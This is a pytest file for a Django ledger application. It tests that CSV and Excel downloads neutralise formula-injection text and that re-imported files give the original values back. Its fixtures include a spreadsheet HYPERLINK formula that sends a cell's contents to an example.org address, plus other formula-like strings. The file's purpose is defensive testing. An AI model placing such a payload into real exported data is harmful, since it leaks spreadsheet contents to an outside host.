"""Text that a spreadsheet would compute: neutralised in downloads, and read back as it was."""

import io
import zipfile
from datetime import date
from decimal import Decimal
from html import unescape

import pytest
from django.db.models import Value
from django.test import Client
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from carsi_tracker.ledger import posting
from carsi_tracker.ledger.formulas import escaped, unescaped
from carsi_tracker.ledger.models import Batch, Commitment, Entry, Line, Posting, Stage
from carsi_tracker.reports.downloads.downloads import TABLES
from carsi_tracker.reports.downloads.fields import Holds, Neutralised
from tests import factories
from tests.imports.conftest import Way, case
from tests.reports.addresses import BOTH, answer
from tests.reports.downloads.files import body, cells, rows, sheets
from tests.sourced import NEXT

pytestmark = pytest.mark.usefixtures("sourced")


@given(st.text("'=+-@\t\r Aé1", max_size=6))
def test_the_apostrophe_comes_off_again(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert escaped(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_the_database_puts_the_apostrophe_where_the_importer_takes_it_off() -> None:
    starts = ("", "'", "''", " ", "A", "A'")
    texts = [
        f"{start}{sign}1" for start in starts for sign in ("=", "+", "-", "@", "\t", "\r", "é")
    ]
    columns = {f"text{n}": Neutralised(Value(text)) for n, text in enumerate(texts)}
    written = Posting.objects.annotate(**columns).values_list(*columns)[0]
    assert list(written) == [escaped(text) for text in texts]


@pytest.fixture
def formulas(command: Way) -> Batch:
    """Amounts whose texts a spreadsheet would compute, posted."""
    made = command("formulas.csv", case("formulas.csv")).batch
    assert made
    with posting.acting(made.created_by):
        Line.objects.filter(batch=made, locator="-2+3").update(quote="''=1+1")
    factories.posted(made)
    return made


FORMULA = '=HYPERLINK("http://example.org/?x="&A2,"open")'


def test_text_that_a_spreadsheet_would_compute_has_an_apostrophe_in_csv(
    client: Client, formulas: Batch
) -> None:
    first, second = rows(client, "/tables/entries.csv?date_from=2010-03-15&date_to=2010-03-15")
    assert first["note"] == f"'{FORMULA}"
    assert first["locator"] == "'-2+3"
    assert first["quote"] == "'''=1+1"
    assert first["amount_usd"] == "-10000.00"
    assert second["title"] == "'@Puesto fronterizo, Honduras"
    assert second["partner"] == "'+504 Fundación"
    assert second["note"] == "'-"
    names = [row["title"] for row in rows(client, "/tables/commitments.csv")]
    assert "'@Puesto fronterizo, Honduras" in names
    negative = [row for row in rows(client, "/tables/entries.csv") if row["amount_usd"][0] == "-"]
    assert any(row["amount_usd"] == "-6750000.00" for row in negative)


def test_the_same_text_is_text_in_a_workbook_and_amounts_are_numbers(
    client: Client, formulas: Batch
) -> None:
    address = "/tables/entries.xlsx?date_from=2010-03-15&date_to=2010-03-15"
    (headings, first, second), _about = sheets(client, address)
    cells = dict(zip(headings, first, strict=True))
    assert cells["note"] == FORMULA
    assert cells["locator"] == "-2+3"
    assert cells["quote"] == "''=1+1"
    assert Decimal(str(cells["amount_usd"])) == -10000
    assert not isinstance(cells["amount_usd"], str)
    assert cells["effective_date"] == date(2010, 3, 15)
    assert "+504 Fundación" in second
    with zipfile.ZipFile(io.BytesIO(body(client.get(address)))) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert b"hyperlink" not in parts.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_importing_a_download_gives_the_original_back(
    client: Client, command: Way, formulas: Batch, kind: str
) -> None:
    version = Posting.objects.get(batch=formulas).version
    file = body(client.get(f"/tables/entries.{kind}?posted_in={version}"))
    outcome = command(f"again.{kind}", file, new=True)
    assert outcome.accepted, outcome.said
    compared = (
        "commitment", "stage", "amount", "effective_date", "document", "locator", "basis", "note",
        "quote",
    )  # fmt: skip
    posted = Entry.objects.filter(posting=version).values_list(*compared)
    drafted = Line.objects.filter(batch=outcome.batch).order_by("pk").values_list(*compared)
    assert list(drafted) == list(posted)
    assert len(drafted) == 2


FORMULA = '=HYPERLINK("http://example.org/?x="&A2,"open")'


STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formulas_everywhere() -> None:
    """Post texts that a spreadsheet would compute, wherever people write any."""
    analyst = factories.analyst(username="=ana", first_name="=Ana", last_name="@Alva")
    approver = factories.approver(first_name="+Pat", last_name="-Poe")
    made = factories.batch(analyst, title="=1+1", reason="@reason")
    known = Commitment.objects.get(reference="CARSI-08-INCLE-03")
    source = factories.document(
        title=FORMULA, title_es="+504", publisher="-Publisher", note="@note", background=True
    )
    quoted = factories.document(title="'=1", publisher="''-1", note="'@", background=True)
    new = factories.commitment(
        made,
        title="-2+3",
        title_es="=SUMA(A1:A2)",
        appropriation=known.appropriation,
        area=factories.area(name_en="=Area", name_es="@Área"),
        country=factories.country(name_en="+Country", name_es="-País"),
        goal=factories.goal(name_en="=Goal", name_es="+Meta"),
        agency=factories.organization(code="=Agency"),
        partner=factories.organization(code="@Partner"),
    )
    texts_of_line = {"locator": "+1", "note": "-", "quote": "''=1"}
    factories.line(made, new, Stage.COMMITTED, 10, document=source, **texts_of_line)
    factories.line(made, new, Stage.OBLIGATED, 5, document=quoted)
    factories.posted(made, approver)


@pytest.mark.parametrize("language", BOTH)
def test_no_text_of_any_file_is_a_formula_and_workbooks_have_the_original(
    client: Client, formulas_everywhere: None, language: str
) -> None:
    for name, table in TABLES.items():
        address = f"{language}/tables/{name}.xlsx"
        (heads, *held), _about = sheets(client, address)
        _names, *written = cells(client, f"{language}/tables/{name}.csv")
        with translation.override(language.strip("/") or "en"):
            headings = [field.heading for field in table.fields]
        if table.draw:  # has no row a line
            heads, held = headings, [[unescaped(text) for text in row] for row in written]
        assert sorted(heads) == sorted(set(headings)), name
        for row, held_row in zip(written, held, strict=True):
            beneath = dict(zip(heads, held_row, strict=True))
            for field, heading, text in zip(table.fields, headings, row, strict=True):
                if field.holds in {Holds.TEXT, Holds.CODE}:
                    assert not text.startswith(STARTS), (name, field.name)
                    assert unescaped(text) == as_text(beneath[heading]), (name, field.name)
        with zipfile.ZipFile(io.BytesIO(body(client.get(address)))) as parts:
            for part in parts.namelist():
                assert b"<f>" not in parts.read(part), part


def test_pages_show_the_text_as_it_was_written(client: Client, formulas_everywhere: None) -> None:
    for address, text in (
        ("/documents/", FORMULA), ("/documents/", "-Publisher"), ("/changes/", "=1+1"),
        (f"/changes/{NEXT}/", "@reason"), (f"/changes/{NEXT}/", "=Ana @Alva"),
        ("/commitments/", "-2+3"),
        ("/areas/", "=Area"), ("/es/countries/", "-País"), ("/feed/", "=1+1"),
        (f"/entries/{NEXT}-1/", "''=1"),
    ):  # fmt: skip
        shown = unescape(answer(client, address)[1].decode())
        assert text in shown, (address, text)
        assert f"'{text}" not in shown, (address, text)


def as_text(cell: object) -> str:
    return str(int(cell)) if isinstance(cell, float) else str(cell)
